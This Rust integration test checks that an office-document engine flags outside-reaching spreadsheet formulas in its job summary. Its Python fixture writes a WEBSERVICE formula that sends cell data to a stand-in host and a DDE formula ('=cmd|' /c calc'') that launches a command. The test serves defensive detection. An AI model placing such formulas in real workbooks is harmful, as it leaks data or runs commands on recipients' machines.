//! The engine's default executor (the warm pool behind the sandbox self-test) end to end:
//! a program that writes a workbook with formulas that fetch from outside succeeds, and
//! summary.json and the log say what those formulas would reach.

use office_core::SandboxStatus;
use office_core::{CodeGenerator, Plan, PlanError, PlanRequest};
use office_core::{Engine, JobKind, JobStatus, Submission, Upload};
use office_tests::test_config;
use std::sync::Arc;
use std::time::Duration;

struct Fixed(&'static str);

#[async_trait::async_trait]
impl CodeGenerator for Fixed {
    fn name(&self) -> String {
        "fixed".into()
    }
    async fn generate(&self, _: &PlanRequest<'_>) -> Result<Plan, PlanError> {
        Ok(Plan {
            code: self.0.into(),
            generator: "fixed".into(),
            steps: vec!["fixed program".into()],
            output: Some("output.xlsx".into()),
        })
    }
}

const FETCHING_WORKBOOK: &str = r#"
import os
from openpyxl import Workbook
wb = Workbook()
ws = wb.active
ws["A1"] = "=SUM(1,2)"
ws["A2"] = '=WEBSERVICE("http://example.test/?q="&A1)'
ws["A3"] = "=cmd|' /c calc'!A0"
wb.save(os.path.join(os.environ["OUTPUT_DIR"], "output.xlsx"))
"#;

#[tokio::test]
async fn formulas_that_fetch_from_outside_are_reported_in_the_summary() {
    let dir = tempfile::tempdir().unwrap();
    let engine = Engine::builder(test_config(dir.path()))
        .generator(Arc::new(Fixed(FETCHING_WORKBOOK)))
        .build()
        .await
        .unwrap();
    let _workers = engine.start_workers(1);
    let job = engine
        .submit(Submission::new(
            JobKind::Excel,
            "x",
            vec![Upload {
                name: "t.csv".into(),
                data: b"name,amount\na,1\n".to_vec().into(),
            }],
        ))
        .await
        .unwrap();
    let job = engine
        .wait(
            &office_core::Caller::default(),
            job.id,
            Some(Duration::from_secs(90)),
        )
        .await
        .unwrap();
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    // The job ran, so the self-test did, and passed.
    assert_eq!(engine.sandbox_status(), SandboxStatus::Holds);
    let summary = engine.summary(&job).await.unwrap();
    let found = summary["external_references"].as_array().unwrap();
    let kinds: Vec<&str> = found.iter().map(|f| f["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["webservice", "dde"], "{found:?}");
    assert_eq!(found[0]["file"], "output.xlsx");
    assert!(
        found[0]["detail"]
            .as_str()
            .unwrap()
            .contains("http://example.test")
    );
}
